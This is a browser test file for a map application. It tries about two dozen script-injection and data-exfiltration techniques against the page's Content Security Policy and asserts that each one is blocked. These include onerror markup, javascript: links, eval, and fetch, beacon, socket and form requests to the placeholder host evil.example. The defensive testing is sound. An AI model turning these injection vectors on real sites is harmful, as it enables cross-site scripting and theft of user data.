import { expect, openMap, test } from './harness.ts';

test.use({
  expectedErrors: [/Content Security Policy|Trusted(HTML|Script|ScriptURL| Type)|violates the following/],
});

test('the content policy withstands attempts to break it', async ({ page }) => {
  const sent: string[] = [];
  await page.route(/evil\.example/, (route) => {
    sent.push(route.request().url());
    return route.abort();
  });
  await openMap(page);
  const outcomes = await page.evaluate(async () => {
    const own = window as unknown as { broken?: string[] };
    own.broken = [];
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.effectiveDirective),
    );
    const attempts: Record<string, () => unknown> = {
      'inline script': () => {
        const script = document.createElement('script');
        script.append(document.createTextNode('window.broken.push("inline script")'));
        document.head.append(script);
      },
      'foreign script': () => {
        document.head.append(
          Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
        );
      },
      'script of a data address': () => {
        document.head.append(
          Object.assign(document.createElement('script'), {
            src: 'data:text/javascript,broken.push("data")',
          }),
        );
      },
      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried
      eval: () => window.eval('window.broken.push("eval")'),
      'new Function': () => new Function('window.broken.push("new Function")')(),
      'text in a timer': () => setTimeout('window.broken.push("timer")' as unknown as () => void),
      markup: () => {
        document.body.innerHTML += '<img src=x onerror="window.broken.push(\'markup\')">';
      },
      'inserted markup': () =>
        document.body.insertAdjacentHTML('beforeend', '<svg onload="window.broken.push(\'inserted\')">'),
      'document.write': () => document.write('<b>broken</b>'),
      'framed markup': () => {
        document.createElement('iframe').srcdoc = '<script>parent.broken.push("srcdoc")</script>';
      },
      'a handler attribute': () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', 'window.broken.push("handler")');
        document.body.append(image);
        image.src = 'missing:';
      },
      'a script address': () => {
        const link = Object.assign(document.createElement('a'), {
          href: 'javascript:window.broken.push("address")',
        });
        document.body.append(link);
        link.click();
        link.remove();
      },
      'an inline style': () => {
        document.head.append(
          Object.assign(document.createElement('style'), { textContent: '#map { display: none }' }),
        );
        if (getComputedStyle(document.getElementById('map') as Element).display === 'none')
          own.broken?.push('style');
      },
      'a foreign fetch': () => fetch('https://evil.example/collect').then(() => own.broken?.push('fetch')),
      'a foreign picture': () => {
        new Image().src = 'https://evil.example/pixel.png';
      },
      'a beacon': () => navigator.sendBeacon('https://evil.example/beacon', 'x'),
      'a socket': () => new WebSocket('wss://evil.example/'),
      'a worker of a blob': () =>
        new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
      'a foreign frame': () => {
        document.body.append(
          Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }),
        );
      },
      'an object': () => {
        document.body.append(
          Object.assign(document.createElement('object'), { data: 'https://evil.example/x.swf' }),
        );
      },
      'another base': () => {
        document.head.append(
          Object.assign(document.createElement('base'), { href: 'https://evil.example/' }),
        );
        if (document.baseURI.includes('evil')) own.broken?.push('base');
      },
      'a sent form': () => {
        const form = Object.assign(document.createElement('form'), {
          action: 'https://evil.example/',
          method: 'post',
        });
        document.body.append(form);
        form.submit();
        form.remove();
      },
      'a policy of its own': () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
    };
    const silent: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      const before = violations.length;
      let thrown = false;
      try {
        await attempt();
      } catch {
        thrown = true;
      }
      // The report of a violation comes later than its cause, on a busy machine much later.
      for (let waited = 0; waited < 50 && !thrown && violations.length === before; waited++)
        await new Promise((resolve) => setTimeout(resolve, 60));
      if (!thrown && violations.length === before) silent.push(name);
    }
    const standing = document.querySelector('#sidebar [role=tabpanel]')?.textContent?.length ?? 0;
    return { broken: own.broken, silent, standing, tried: Object.keys(attempts).length };
  });
  expect(outcomes.broken).toEqual([]);
  expect(outcomes.silent).toEqual([]);
  expect(outcomes.tried).toBeGreaterThan(20);
  expect(sent).toEqual([]);
  expect(outcomes.standing).toBeGreaterThan(100);
});
